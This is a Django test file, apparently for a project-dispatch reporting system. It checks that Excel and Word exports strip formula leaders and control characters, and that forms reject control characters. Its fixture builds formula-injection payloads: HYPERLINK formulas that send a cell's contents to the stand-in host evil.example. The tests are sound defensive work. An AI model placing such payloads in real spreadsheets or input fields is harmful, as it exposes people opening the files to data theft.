"""Issue 14 findings 1 and 2: text written into every free-text field with every control character
and every formula leader reads back inert from every export (no formula cells, no control
characters, the rest intact); and forms refuse control characters where a user types them."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from core.text import FORBIDDEN_RE, export_text
from dispatch.forms import DecisionForm
from dispatch.models import Decision, DispatchMeeting
from issues.forms import ProgressForm
from issues.models import Issue, ProgressUpdate
from tests.exporting import follow_export_offer
from tests.reports.conftest import SEPTEMBER

pytestmark = pytest.mark.django_db

# NUL never reaches a row: PostgreSQL refuses it in text (and Django forms refuse it at input).
CONTROLS = "".join(chr(c) for c in (*range(0x01, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F))
LEADERS = ("=", "+", "-", "@", "\t", "\r")


def _hostile(n: int) -> str:
    leader = LEADERS[n % len(LEADERS)]
    return f'{leader}HYPERLINK("http://evil.example/?x="&B3,"详情"){CONTROLS}尾{n}'


@pytest.fixture
def hostile(september):
    """Old rows (written before the validator) and a frozen September holding hostile text."""
    w = september.world
    for n, issue in enumerate(september.issues.values()):
        Issue.objects.filter(pk=issue.pk).update(title=_hostile(n)[:200], description=_hostile(n + 1))
        ProgressUpdate.objects.create(
            issue=issue, author=w.lead_liaison, department=issue.lead_department, text=_hostile(n + 2)
        )
    meeting = DispatchMeeting.objects.get(title="水电硅项目9月调度会")
    DispatchMeeting.objects.filter(pk=meeting.pk).update(
        status=DispatchMeeting.Status.HELD, minutes=_hostile(3), focus_next_month=_hostile(4)
    )
    Decision.objects.filter(meeting=meeting).update(text=_hostile(5))
    return september


def _check_text(text: str) -> None:
    assert not FORBIDDEN_RE.search(text), repr(text)


def _xlsx_inert(content: bytes) -> int:
    workbook = load_workbook(io.BytesIO(content))
    seen = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    _check_text(cell.value)
                    if "HYPERLINK" in cell.value:
                        seen += 1
                        assert 'HYPERLINK("http://evil.example/?x="&B3,"详情")' in cell.value
    raw = zipfile.ZipFile(io.BytesIO(content))
    for name in raw.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in raw.read(name), name
    return seen


def _docx_inert(content: bytes) -> int:
    document = Document(io.BytesIO(content))
    texts = [p.text for p in document.paragraphs]
    texts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    for text in texts:
        _check_text(text)
    return sum("HYPERLINK" in text for text in texts)


def test_every_export_reads_back_inert(client, hostile):
    w = hostile.world
    client.force_login(w.leader)
    ledger = client.get(reverse("reports:ledger_xlsx"))
    assert ledger.status_code == 200
    assert _xlsx_inert(b"".join(ledger.streaming_content)) >= len(hostile.issues)
    summary_xlsx = follow_export_offer(client, reverse("reports:summary_xlsx", kwargs={"month": SEPTEMBER}))
    assert _xlsx_inert(summary_xlsx) >= 1
    assert _docx_inert(follow_export_offer(client, reverse("reports:summary_docx", kwargs={"month": SEPTEMBER}))) >= 1
    meeting = DispatchMeeting.objects.get(group=w.group, month=SEPTEMBER.first_day)
    urls = [
        reverse("reports:meeting_minutes_docx", kwargs={"pk": meeting.pk}),
        reverse("reports:issue_letter_docx", kwargs={"pk": hostile.issues["A7"].pk}),
        reverse("reports:issue_supervision_docx", kwargs={"pk": hostile.issues["A6"].pk}),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert _docx_inert(response.content) >= 1, url
    batch = client.get(reverse("reports:issue_letters"))
    with zipfile.ZipFile(io.BytesIO(batch.content)) as archive:
        for name in archive.namelist():
            assert _docx_inert(archive.read(name)) >= 1, name


def test_export_text_keeps_text_and_line_breaks():
    assert export_text("甲\x0b乙\r\n丙\x07丁\t戊") == "甲\n乙\n丙丁\t戊"


def test_forms_refuse_control_characters_with_a_clear_message():
    form = ProgressForm(data={"expected_version": 1, "text": "已整改\x0b完毕"})
    assert not form.is_valid()
    assert "控制字符" in form.errors["text"][0] and "U+000B" in form.errors["text"][0]
    assert ProgressForm(data={"expected_version": 1, "text": "已整改\r\n完毕\t。"}).is_valid()


def test_decision_form_refuses_a_bell(september):
    meeting = DispatchMeeting.objects.get(title="水电硅项目9月调度会")
    form = DecisionForm(meeting=meeting, data={"text": "加快\x07报批"})
    assert not form.is_valid() and "控制字符" in str(form.errors["text"])
